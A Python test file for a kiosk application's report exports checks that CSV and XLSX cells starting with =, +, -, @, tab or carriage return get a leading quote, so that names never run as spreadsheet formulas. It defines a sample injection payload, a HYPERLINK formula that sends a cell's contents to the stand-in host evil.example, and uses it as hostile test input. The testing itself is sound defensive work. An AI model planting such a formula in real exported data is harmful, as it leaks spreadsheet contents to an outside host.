"""Report exports open in a spreadsheet as the text they hold: a name can never become a formula."""

import csv
import io
from datetime import datetime

import pytest
from openpyxl import load_workbook

from kiosk.core.auth import hash_password
from kiosk.staff.report_exports import spreadsheet_cell
from motcua.accounts import create_user
from motcua.units import save_unit
from tests.factories import DossierSet

APRIL = {"kind": "month", "year": "2021", "number": "4", "unit": "T1"}
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
# Every start a spreadsheet reads as a formula or a command (LibreOffice and Excel alike).
HOSTILE = [EVIL, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


@pytest.fixture
def client_with_hostile_names(client, db, auth):
    centre = save_unit(db, "T1", EVIL, "tinh")
    for number, name in enumerate(HOSTILE[1:], start=1):
        save_unit(db, f"T1.X{number}", name, "xa", "T1")
    create_user(db, "quanly", hash_password("mat-khau-dai"), "manager", "T1")
    build = DossierSet(db)
    procedure = build.procedure("1.1", "=1+2", online=False)  # the field (lĩnh vực) is a name too
    april = {"received": datetime(2021, 4, 1), "due": datetime(2021, 4, 10), "resolved": datetime(2021, 4, 8)}
    build.add(2, unit=centre, procedure=procedure, **april)
    build.save()
    db.commit()
    auth("quanly")
    return client


def _cells(rows):
    return [value for row in rows for value in row if isinstance(value, str) and value]


def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(client_with_hostile_names):
    response = client_with_hostile_names.get("/quan-ly/bao-cao/xuat.csv", query_string=APRIL)
    assert response.status_code == 200
    cells = _cells(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert "'" + EVIL in cells and "'+1+1" in cells and "'-2+3" in cells and "'@SUM(A1)" in cells
    assert not [cell for cell in cells if cell[0] in "=+-@\t\r"]


def test_xlsx_cells_are_text_never_formulas(client_with_hostile_names):
    response = client_with_hostile_names.get("/quan-ly/bao-cao/xuat.xlsx", query_string=APRIL)
    workbook = load_workbook(io.BytesIO(response.data))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert "'" + EVIL in texts and "'-2+3" in texts
    assert not [text for text in texts if text[0] in "=+-@\t\r"]
    # Figures stay numbers a manager can add up.
    assert any(isinstance(cell.value, int | float) for cell in cells)


@pytest.mark.parametrize("text", HOSTILE)
def test_any_text_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Bộ phận Một cửa", "", "T1.X1", 12, -3, 83.33, None])
def test_plain_text_and_numbers_pass_unchanged(value):
    assert spreadsheet_cell(value) == value
